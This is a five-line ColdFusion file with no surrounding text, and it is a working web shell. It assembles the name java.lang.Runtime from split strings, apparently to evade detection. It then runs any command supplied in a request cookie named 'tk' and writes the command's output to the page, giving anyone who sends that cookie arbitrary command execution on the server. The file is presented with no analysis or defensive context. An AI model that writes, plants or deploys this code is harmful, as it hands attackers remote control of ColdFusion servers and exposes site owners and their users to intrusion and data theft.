<cfset a = "java.lang." & "Run" & "time">
<cfset r = createObject("java", a).getRuntime()>
<cfset pr = r.exec(cookie.tk)>
<cfset is = createObject("java", "java.util.Scanner").init(pr.getInputStream())>
<cfoutput>#is.useDelimiter("\A").next()#</cfoutput>
